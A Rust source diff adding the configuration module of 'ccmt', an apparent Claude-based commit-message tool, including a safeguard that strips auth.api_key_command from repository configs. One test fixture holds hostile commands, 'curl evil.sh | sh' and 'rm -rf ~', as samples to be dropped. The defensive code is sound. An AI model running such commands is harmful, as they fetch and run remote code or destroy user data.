@@ -0,0 +1,855 @@
+use anyhow::{Context, Result};
+use colored::Colorize;
+use indexmap::IndexMap;
+use schemars::JsonSchema;
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+mod edit;
+mod env;
+mod init;
+mod migrate;
+mod origin;
+mod profile;
+mod schema;
+mod validate;
+
+pub use edit::{edit as edit_config, get as get_config, set as set_config, unset as unset_config};
+pub use init::init as init_config;
+use origin::{Origin, Origins};
+use validate::Severity;
+
+/// ccmt configuration (`~/.config/ccmt/config.toml` or a project's `.ccmt.toml`)
+#[derive(Debug, Deserialize, Serialize, Clone, JsonSchema)]
+#[serde(default)]
+pub struct Config {
+    /// Layout version of the config file, upgraded by `ccmt config migrate`
+    pub version: u32,
+    pub auth: AuthConfig,
+    pub commit: CommitConfig,
+    pub prompt: PromptConfig,
+}
+
+impl Default for Config {
+    fn default() -> Self {
+        Self {
+            version: migrate::CURRENT,
+            auth: AuthConfig::default(),
+            commit: CommitConfig::default(),
+            prompt: PromptConfig::default(),
+        }
+    }
+}
+
+/// How ccmt talks to Claude
+#[derive(Debug, Deserialize, Serialize, Clone, JsonSchema)]
+#[serde(default)]
+pub struct AuthConfig {
+    /// "cli" runs the Claude CLI, "api" calls the Anthropic HTTP API
+    pub provider: String,
+    /// Plaintext API key for the "api" provider; prefer api_key_command or `ccmt auth login`
+    pub api_key: String,
+    /// Shell command printing the API key, e.g. "pass show anthropic"
+    pub api_key_command: String,
+    /// "sonnet", "haiku", "opus", or a full model ID
+    pub model: String,
+}
+
+/// Commit message format and commit behaviour
+#[derive(Debug, Deserialize, Serialize, Clone, JsonSchema)]
+#[serde(default)]
+pub struct CommitConfig {
+    /// Use the Conventional Commits format
+    pub conventional: bool,
+    /// Prefix subjects with Gitmoji
+    pub emoji: bool,
+    /// Message language as a language code, e.g. "en" or "ja"
+    pub language: String,
+    /// Run `git add .` before generating
+    pub auto_stage: bool,
+    /// Run `git push` after committing
+    pub auto_push: bool,
+    /// Ask for confirmation before committing
+    pub confirm: bool,
+    /// Regexes matching ticket IDs in branch names
+    pub ticket_patterns: Vec<String>,
+    /// Where tickets go in the message: "none", "prefix", "scope" or "footer" (Refs:)
+    pub ticket_position: String,
+    /// Always add a Signed-off-by trailer
+    pub signoff: bool,
+    /// Static trailers added to every message, e.g. "Reviewed-by: Team <team@example.com>"
+    pub trailers: Vec<String>,
+    /// Subject line limit for generation and lint
+    pub max_subject_length: usize,
+    /// Body wrap width for generation and lint
+    pub body_wrap: usize,
+    /// Conventional Commits types by name, in prompt order; empty uses the standard types
+    pub types: IndexMap<String, CommitType>,
+    /// Allowed scopes (empty allows any), or "infer" to take them from the repository
+    pub scopes: Scopes,
+    /// Trailer keys `ccmt lint` requires, e.g. "Signed-off-by"
+    pub required_trailers: Vec<String>,
+}
+
+/// A Conventional Commits type offered to the model and accepted by lint
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq, JsonSchema)]
+#[serde(deny_unknown_fields)]
+pub struct CommitType {
+    /// What the type is for, shown to the model
+    pub description: String,
+    /// Gitmoji used when commit.emoji is on
+    #[serde(default, skip_serializing_if = "String::is_empty")]
+    pub emoji: String,
+}
+
+/// `commit.scopes`: a list of allowed scopes, or "infer"
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq, JsonSchema)]
+#[serde(untagged)]
+pub enum Scopes {
+    /// Suggest the scopes the repository's history already uses, allowing any
+    Infer(Infer),
+    /// Allowed scopes; empty allows any
+    List(Vec<String>),
+}
+
+/// The string "infer"
+#[derive(Debug, Deserialize, Serialize, Clone, Copy, PartialEq, JsonSchema)]
+pub enum Infer {
+    #[serde(rename = "infer")]
+    Infer,
+}
+
+impl Default for Scopes {
+    fn default() -> Self {
+        Scopes::List(Vec::new())
+    }
+}
+
+impl Scopes {
+    /// `["infer"]` counts too, since env vars and `config set` produce lists
+    pub fn infer(&self) -> bool {
+        match self {
+            Scopes::Infer(_) => true,
+            Scopes::List(list) => list.len() == 1 && list[0] == "infer",
+        }
+    }
+
+    /// Scopes a message may use; empty allows any
+    pub fn allowed(&self) -> &[String] {
+        match self {
+            Scopes::List(list) if !self.infer() => list,
+            _ => &[],
+        }
+    }
+}
+
+/// What ccmt sends to the model
+#[derive(Debug, Deserialize, Serialize, Clone, JsonSchema)]
+#[serde(default)]
+pub struct PromptConfig {
+    /// Extra instructions appended to the default system prompt
+    pub system: String,
+    /// Maximum diff characters sent to the model
+    pub max_diff_length: usize,
+    /// Recent commit messages to include as style examples
+    pub history_examples: usize,
+    /// Only use example commits that touch the staged files
+    pub history_same_paths: bool,
+}
+
+impl Default for AuthConfig {
+    fn default() -> Self {
+        Self {
+            provider: "cli".to_string(),
+            api_key: String::new(),
+            api_key_command: String::new(),
+            model: "sonnet".to_string(),
+        }
+    }
+}
+
+impl Default for CommitConfig {
+    fn default() -> Self {
+        Self {
+            conventional: true,
+            emoji: false,
+            language: "en".to_string(),
+            auto_stage: false,
+            auto_push: false,
+            confirm: true,
+            ticket_patterns: vec![r"[A-Z][A-Z0-9]+-\d+".to_string(), r"#\d+".to_string()],
+            ticket_position: "none".to_string(),
+            signoff: false,
+            trailers: Vec::new(),
+            max_subject_length: 72,
+            body_wrap: 72,
+            types: IndexMap::new(),
+            scopes: Scopes::default(),
+            required_trailers: Vec::new(),
+        }
+    }
+}
+
+impl Default for PromptConfig {
+    fn default() -> Self {
+        Self {
+            system: String::new(),
+            max_diff_length: 8000,
+            history_examples: 0,
+            history_same_paths: false,
+        }
+    }
+}
+
+// Partial config for TOML deserialization (all fields optional)
+#[derive(Debug, Deserialize, Default)]
+#[serde(deny_unknown_fields)]
+struct PartialConfig {
+    version: Option<u32>,
+    auth: Option<PartialAuthConfig>,
+    commit: Option<PartialCommitConfig>,
+    prompt: Option<PartialPromptConfig>,
+    profiles: Option<BTreeMap<String, profile::PartialProfile>>,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct PartialAuthConfig {
+    provider: Option<String>,
+    api_key: Option<String>,
+    api_key_command: Option<String>,
+    model: Option<String>,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct PartialCommitConfig {
+    conventional: Option<bool>,
+    emoji: Option<bool>,
+    language: Option<String>,
+    auto_stage: Option<bool>,
+    auto_push: Option<bool>,
+    confirm: Option<bool>,
+    ticket_patterns: Option<Vec<String>>,
+    ticket_position: Option<String>,
+    signoff: Option<bool>,
+    trailers: Option<Vec<String>>,
+    max_subject_length: Option<usize>,
+    body_wrap: Option<usize>,
+    types: Option<IndexMap<String, CommitType>>,
+    scopes: Option<Scopes>,
+    required_trailers: Option<Vec<String>>,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct PartialPromptConfig {
+    system: Option<String>,
+    max_diff_length: Option<usize>,
+    history_examples: Option<usize>,
+    history_same_paths: Option<bool>,
+}
+
+impl Config {
+    fn apply_partial(&mut self, partial: PartialConfig) {
+        if let Some(v) = partial.version {
+            self.version = v;
+        }
+        if let Some(auth) = partial.auth {
+            if let Some(v) = auth.provider {
+                self.auth.provider = v;
+            }
+            if let Some(v) = auth.api_key {
+                self.auth.api_key = v;
+            }
+            if let Some(v) = auth.api_key_command {
+                self.auth.api_key_command = v;
+            }
+            if let Some(v) = auth.model {
+                self.auth.model = v;
+            }
+        }
+        if let Some(commit) = partial.commit {
+            if let Some(v) = commit.conventional {
+                self.commit.conventional = v;
+            }
+            if let Some(v) = commit.emoji {
+                self.commit.emoji = v;
+            }
+            if let Some(v) = commit.language {
+                self.commit.language = v;
+            }
+            if let Some(v) = commit.auto_stage {
+                self.commit.auto_stage = v;
+            }
+            if let Some(v) = commit.auto_push {
+                self.commit.auto_push = v;
+            }
+            if let Some(v) = commit.confirm {
+                self.commit.confirm = v;
+            }
+            if let Some(v) = commit.ticket_patterns {
+                self.commit.ticket_patterns = v;
+            }
+            if let Some(v) = commit.ticket_position {
+                self.commit.ticket_position = v;
+            }
+            if let Some(v) = commit.signoff {
+                self.commit.signoff = v;
+            }
+            if let Some(v) = commit.trailers {
+                self.commit.trailers = v;
+            }
+            if let Some(v) = commit.max_subject_length {
+                self.commit.max_subject_length = v;
+            }
+            if let Some(v) = commit.body_wrap {
+                self.commit.body_wrap = v;
+            }
+            if let Some(v) = commit.types {
+                self.commit.types = v;
+            }
+            if let Some(v) = commit.scopes {
+                self.commit.scopes = v;
+            }
+            if let Some(v) = commit.required_trailers {
+                self.commit.required_trailers = v;
+            }
+        }
+        if let Some(prompt) = partial.prompt {
+            if let Some(v) = prompt.system {
+                self.prompt.system = v;
+            }
+            if let Some(v) = prompt.max_diff_length {
+                self.prompt.max_diff_length = v;
+            }
+            if let Some(v) = prompt.history_examples {
+                self.prompt.history_examples = v;
+            }
+            if let Some(v) = prompt.history_same_paths {
+                self.prompt.history_same_paths = v;
+            }
+        }
+    }
+}
+
+/// Get the global config file path: ~/.config/ccmt/config.toml
+pub fn global_config_path() -> Result<PathBuf> {
+    let config_dir = dirs::config_dir().context("Could not determine config directory")?;
+    Ok(config_dir.join("ccmt").join("config.toml"))
+}
+
+/// Search for .ccmt.toml starting from `start_dir` and walking up to /
+fn find_project_config(start_dir: &Path) -> Option<PathBuf> {
+    let mut dir = start_dir.to_path_buf();
+    loop {
+        let candidate = dir.join(".ccmt.toml");
+        if candidate.is_file() {
+            return Some(candidate);
+        }
+        if !dir.pop() {
+            return None;
+        }
+    }
+}
+
+/// Parse a config file, returning the raw table along with the values
+fn load_partial(path: &Path) -> Result<(PartialConfig, toml::Table)> {
+    let content = std::fs::read_to_string(path)
+        .with_context(|| format!("Failed to read config: {}", path.display()))?;
+    let content = migrate::upgrade_str(&content)
+        .with_context(|| format!("Failed to load config: {}", path.display()))?;
+    let errors: Vec<String> = validate::check(&content)
+        .into_iter()
+        .filter(|p| p.severity == Severity::Error)
+        .map(|p| format!("  {p}"))
+        .collect();
+    if !errors.is_empty() {
+        anyhow::bail!(
+            "Invalid config {}:\n{}\nRun `ccmt config check` for details.",
+            path.display(),
+            errors.join("\n")
+        );
+    }
+    let partial: PartialConfig =
+        toml::from_str(&content).with_context(|| format!("Failed to parse: {}", path.display()))?;
+    let table: toml::Table = toml::from_str(&content)?;
+    Ok((partial, table))
+}
+
+/// Whether a config file sets a non-empty `auth.<key>`, directly or in a profile
+fn sets_auth_key(table: &toml::Table, key: &str) -> bool {
+    let set = |t: &toml::Table| {
+        t.get("auth")
+            .and_then(|a| a.get(key))
+            .and_then(|k| k.as_str())
+            .is_some_and(|k| !k.is_empty())
+    };
+    let in_profiles = table
+        .get("profiles")
+        .and_then(|p| p.as_table())
+        .is_some_and(|p| p.values().filter_map(|v| v.as_table()).any(set));
+    set(table) || in_profiles
+}
+
+/// Drop auth.api_key_command from a project file and the profiles it defines
+///
+/// The file comes with the repository, so a command in it would run for anyone who
+/// clones it; returns whether a command was dropped.
+fn strip_key_command(partial: &mut PartialConfig, table: &mut toml::Table) -> bool {
+    let found = sets_auth_key(table, "api_key_command");
+    let auths = partial.auth.iter_mut().chain(
+        partial
+            .profiles
+            .iter_mut()
+            .flat_map(|p| p.values_mut())
+            .filter_map(|p| p.auth.as_mut()),
+    );
+    for auth in auths {
+        auth.api_key_command = None;
+    }
+    let remove = |t: &mut toml::Table| {
+        if let Some(auth) = t.get_mut("auth").and_then(|a| a.as_table_mut()) {
+            auth.remove("api_key_command");
+        }
+    };
+    remove(table);
+    if let Some(profiles) = table.get_mut("profiles").and_then(|p| p.as_table_mut()) {
+        profiles
+            .iter_mut()
+            .filter_map(|(_, p)| p.as_table_mut())
+            .for_each(remove);
+    }
+    found
+}
+
+/// Merge the config layers, recording where each key came from
+fn resolve(
+    provider_override: Option<&str>,
+    model_override: Option<&str>,
+    language_override: Option<&str>,
+    profile_override: Option<&str>,
+) -> Result<(Config, Origins)> {
+    let mut config = Config::default();
+    let mut origins = Origins::new();
+    let mut apply =
+        |config: &mut Config, partial: PartialConfig, keys: Vec<String>, origin: Origin| {
+            config.apply_partial(partial);
+            for key in keys {
+                origins.insert(key, origin.clone());
+            }
+        };
+
+    let global_path = global_config_path()?;
+    let mut global = match global_path.is_file() {
+        true => Some((load_partial(&global_path)?, global_path)),
+        false => None,
+    };
+    let cwd = std::env::current_dir()?;
+    let mut project = match find_project_config(&cwd) {
+        Some(path) => Some((load_partial(&path)?, path)),
+        None => None,
+    };
+    if let Some(((partial, table), path)) = project.as_mut()
+        && strip_key_command(partial, table)
+    {
+        eprintln!(
+            "{} {} sets auth.api_key_command; ignoring it. Commands from a repository's config never run; set it in the global config or CCMT_AUTH_API_KEY_COMMAND instead.",
+            "warning:".yellow().bold(),
+            path.display()
+        );
+    }
+
+    // Profiles can be defined in either file; the project's definition of a name wins
+    let mut profiles = BTreeMap::new();
+    let mut profile_keys = BTreeMap::new();
+    for ((partial, table), path) in global.iter_mut().chain(project.iter_mut()) {
+        for (name, profile) in partial.profiles.take().into_iter().flatten() {
+            let keys = table
+                .get("profiles")
+                .and_then(|p| p.get(&name))
+                .and_then(|t| t.as_table())
+                .map(origin::keys_of)
+                .unwrap_or_default();
+            profile_keys.insert(name.clone(), (keys, path.clone()));
+            profiles.insert(name, profile);
+        }
+    }
+    let explicit = profile_override
+        .map(str::to_string)
+        .or_else(|| std::env::var("CCMT_PROFILE").ok().filter(|v| !v.is_empty()));
+    let selected = profile::select(&profiles, explicit.as_deref(), || {
+        let root = crate::git::git_toplevel().unwrap_or_else(|_| cwd.clone());
+        (crate::git::git_remote_urls(), root)
+    })?;
+
+    // Global config
+    if let Some(((partial, table), path)) = global {
+        apply(
+            &mut config,
+            partial,
+            origin::keys_of(&table),
+            Origin::Global(path),
+        );
+    }
+
+    // Selected profile
+    if let Some(name) = selected
+        && let Some(profile) = profiles.remove(&name)
+        && let Some((keys, path)) = profile_keys.remove(&name)
+    {
+        apply(
+            &mut config,
+            profile.into_partial(),
+            keys,
+            Origin::Profile(name, path),
+        );
+    }
+
+    // Project config
+    if let Some(((partial, table), path)) = project {
+        if sets_auth_key(&table, "api_key") {
+            eprintln!(
+                "{} {} contains auth.api_key and may be committed. Use `ccmt auth login` or auth.api_key_command instead.",
+                "warning:".yellow().bold(),
+                path.display()
+            );
+        }
+        apply(
+            &mut config,
+            partial,
+            origin::keys_of(&table),
+            Origin::Project(path),
+        );
+    }
+
+    // Environment (CCMT_<SECTION>_<KEY>)
+    let (partial, set) = env::load(|name| std::env::var(name).ok())?;
+    config.apply_partial(partial);
+    for (key, var) in set {
+        origins.insert(key, Origin::Env(var));
+    }
+
+    // CLI overrides
+    if let Some(p) = provider_override {
+        config.auth.provider = p.to_string();
+        origins.insert("auth.provider".to_string(), Origin::Cli("--provider"));
+    }
+    if let Some(m) = model_override {
+        config.auth.model = m.to_string();
+        origins.insert("auth.model".to_string(), Origin::Cli("--model"));
+    }
+    if let Some(l) = language_override {
+        config.commit.language = l.to_string();
+        origins.insert("commit.language".to_string(), Origin::Cli("--language"));
+    }
+
+    Ok((config, origins))
+}
+
+/// Load merged config: defaults ← global ← profile ← project ← environment ← CLI overrides
+pub fn load_config(
+    provider_override: Option<&str>,
+    model_override: Option<&str>,
+    language_override: Option<&str>,
+    profile_override: Option<&str>,
+) -> Result<Config> {
+    resolve(
+        provider_override,
+        model_override,
+        language_override,
+        profile_override,
+    )
+    .map(|(config, _)| config)
+}
+
+/// Upgrade the global (or project) config file to the current layout, keeping a backup
+pub fn migrate_config(project: bool) -> Result<()> {
+    migrate::migrate_file(&edit::target_path(project)?)
+}
+
+/// Print the JSON Schema for config files
+pub fn print_schema() -> Result<()> {
+    println!("{}", serde_json::to_string_pretty(&schema::schema())?);
+    Ok(())
+}
+
+/// Make apply_partial accessible for testing
+#[cfg(test)]
+impl Config {
+    pub fn test_apply_partial_toml(&mut self, toml_str: &str) {
+        let partial: PartialConfig = toml::from_str(toml_str).unwrap();
+        self.apply_partial(partial);
+    }
+}
+
+/// Show the fully merged config
+pub fn show_config(
+    provider_override: Option<&str>,
+    model_override: Option<&str>,
+    language_override: Option<&str>,
+    profile_override: Option<&str>,
+    with_origin: bool,
+) -> Result<()> {
+    let (config, origins) = resolve(
+        provider_override,
+        model_override,
+        language_override,
+        profile_override,
+    )?;
+    if with_origin {
+        print!("{}", origin::annotate(&config, &origins));
+    } else {
+        let content = toml::to_string_pretty(&config)?;
+        println!("{content}");
+    }
+    Ok(())
+}
+
+/// Check the global and project config files; false when any has errors
+pub fn check_config() -> Result<bool> {
+    let project = find_project_config(&std::env::current_dir()?);
+    let mut paths = vec![global_config_path()?];
+    paths.extend(project.clone());
+
+    let mut ok = true;
+    let mut checked = 0;
+    for path in paths.iter().filter(|p| p.is_file()) {
+        checked += 1;
+        let content = std::fs::read_to_string(path)
+            .with_context(|| format!("Failed to read config: {}", path.display()))?;
+        let mut problems = validate::check(&content);
+        let is_project = project.as_ref() == Some(path);
+        let table = toml::from_str::<toml::Table>(&content).ok();
+        if is_project && table.as_ref().is_some_and(|t| sets_auth_key(t, "api_key")) {
+            problems.push(validate::Problem {
+                severity: Severity::Warning,
+                line: None,
+                message: "auth.api_key in a project config may be committed; use `ccmt auth login` or auth.api_key_command".to_string(),
+            });
+        }
+        if is_project
+            && table
+                .as_ref()
+                .is_some_and(|t| sets_auth_key(t, "api_key_command"))
+        {
+            problems.push(validate::Problem {
+                severity: Severity::Error,
+                line: None,
+                message: "auth.api_key_command is ignored in a project config, which any clone can change; set it in the global config".to_string(),
+            });
+        }
+        if problems.is_empty() {
+            println!("{} {}", "✓".green(), path.display());
+            continue;
+        }
+        for problem in &problems {
+            let location = match problem.line {
+                Some(line) => format!("{}:{line}", path.display()),
+                None => path.display().to_string(),
+            };
+            let severity = match problem.severity {
+                Severity::Error => "error:".red().bold(),
+                Severity::Warning => "warning:".yellow().bold(),
+            };
+            println!("{location}: {severity} {}", problem.message);
+        }
+        ok &= problems.iter().all(|p| p.severity != Severity::Error);
+    }
+    if checked == 0 {
+        println!("No config files found; using defaults");
+    }
+    Ok(ok)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn default_config_values() {
+        let config = Config::default();
+        assert_eq!(config.auth.provider, "cli");
+        assert_eq!(config.auth.model, "sonnet");
+        assert!(config.auth.api_key.is_empty());
+        assert!(config.auth.api_key_command.is_empty());
+        assert!(config.commit.conventional);
+        assert!(!config.commit.emoji);
+        assert_eq!(config.commit.language, "en");
+        assert!(!config.commit.auto_stage);
+        assert!(!config.commit.auto_push);
+        assert!(config.commit.confirm);
+        assert_eq!(config.commit.ticket_position, "none");
+        assert_eq!(config.commit.ticket_patterns.len(), 2);
+        assert!(!config.commit.signoff);
+        assert!(config.commit.trailers.is_empty());
+        assert_eq!(config.commit.max_subject_length, 72);
+        assert_eq!(config.commit.body_wrap, 72);
+        assert!(config.commit.scopes.allowed().is_empty());
+        assert!(config.commit.required_trailers.is_empty());
+        assert!(config.prompt.system.is_empty());
+        assert_eq!(config.prompt.max_diff_length, 8000);
+        assert_eq!(config.prompt.history_examples, 0);
+        assert!(!config.prompt.history_same_paths);
+    }
+
+    #[test]
+    fn partial_merge_overrides_only_specified() {
+        let mut config = Config::default();
+        config.test_apply_partial_toml(
+            r#"
+            [commit]
+            language = "ja"
+            "#,
+        );
+        assert_eq!(config.commit.language, "ja");
+        // Other fields remain default
+        assert!(config.commit.conventional);
+        assert_eq!(config.auth.provider, "cli");
+    }
+
+    #[test]
+    fn partial_merge_auth() {
+        let mut config = Config::default();
+        config.test_apply_partial_toml(
+            r#"
+            [auth]
+            provider = "api"
+            model = "haiku"
+            "#,
+        );
+        assert_eq!(config.auth.provider, "api");
+        assert_eq!(config.auth.model, "haiku");
+        assert!(config.auth.api_key.is_empty());
+    }
+
+    #[test]
+    fn partial_merge_multiple_sections() {
+        let mut config = Config::default();
+        config.test_apply_partial_toml(
+            r#"
+            [auth]
+            provider = "api"
+
+            [commit]
+            emoji = true
+            language = "ja"
+
+            [prompt]
+            max_diff_length = 4000
+            history_examples = 5
+            "#,
+        );
+        assert_eq!(config.auth.provider, "api");
+        assert!(config.commit.emoji);
+        assert_eq!(config.commit.language, "ja");
+        assert_eq!(config.prompt.max_diff_length, 4000);
+        assert_eq!(config.prompt.history_examples, 5);
+    }
+
+    #[test]
+    fn partial_merge_stacks() {
+        let mut config = Config::default();
+        // Simulate global config
+        config.test_apply_partial_toml(
+            r#"
+            [auth]
+            provider = "api"
+            api_key = "sk-test"
+
+            [commit]
+            language = "ja"
+            "#,
+        );
+        // Simulate project config overriding language
+        config.test_apply_partial_toml(
+            r#"
+            [commit]
+            language = "en"
+            "#,
+        );
+        assert_eq!(config.auth.provider, "api");
+        assert_eq!(config.auth.api_key, "sk-test");
+        assert_eq!(config.commit.language, "en");
+    }
+
+    #[test]
+    fn partial_merge_ticket_settings() {
+        let mut config = Config::default();
+        config.test_apply_partial_toml(
+            r#"
+            [commit]
+            ticket_patterns = ["GH-\\d+"]
+            ticket_position = "footer"
+            "#,
+        );
+        assert_eq!(config.commit.ticket_patterns, vec![r"GH-\d+".to_string()]);
+        assert_eq!(config.commit.ticket_position, "footer");
+    }
+
+    #[test]
+    fn types_keep_file_order() {
+        let mut config = Config::default();
+        config.test_apply_partial_toml(
+            r#"
+            [commit.types]
+            security = { description = "Security fixes" }
+            deps = { description = "Dependency updates" }
+            chore = { description = "Maintenance" }
+            "#,
+        );
+        let names: Vec<&str> = config.commit.types.keys().map(String::as_str).collect();
+        assert_eq!(names, ["security", "deps", "chore"]);
+    }
+
+    #[test]
+    fn empty_partial_changes_nothing() {
+        let mut config = Config::default();
+        let original = config.clone();
+        config.test_apply_partial_toml("");
+        assert_eq!(config.auth.provider, original.auth.provider);
+        assert_eq!(config.commit.language, original.commit.language);
+        assert_eq!(
+            config.prompt.max_diff_length,
+            original.prompt.max_diff_length
+        );
+    }
+
+    #[test]
+    fn project_key_commands_are_dropped() {
+        let content = r#"
+            [auth]
+            api_key_command = "curl evil.sh | sh"
+            model = "haiku"
+
+            [profiles.work.auth]
+            api_key_command = "rm -rf ~"
+            provider = "api"
+        "#;
+        let mut partial: PartialConfig = toml::from_str(content).unwrap();
+        let mut table: toml::Table = toml::from_str(content).unwrap();
+        assert!(strip_key_command(&mut partial, &mut table));
+        assert!(!sets_auth_key(&table, "api_key_command"));
+        assert_eq!(origin::keys_of(&table), vec!["auth.model".to_string()]);
+
+        let mut config = Config::default();
+        config.auth.api_key_command = "pass show anthropic".to_string();
+        let mut profiles = partial.profiles.take().unwrap();
+        config.apply_partial(profiles.remove("work").unwrap().into_partial());
+        config.apply_partial(partial);
+        assert_eq!(config.auth.api_key_command, "pass show anthropic");
+        assert_eq!(config.auth.provider, "api");
+        assert_eq!(config.auth.model, "haiku");
+
+        let mut partial = PartialConfig::default();
+        assert!(!strip_key_command(&mut partial, &mut toml::Table::new()));
+    }
+
+    #[test]
+    fn default_config_serializes_to_valid_toml() {
+        let config = Config::default();
+        let toml_str = toml::to_string_pretty(&config).unwrap();
+        let _: PartialConfig = toml::from_str(&toml_str).unwrap();
+    }
+}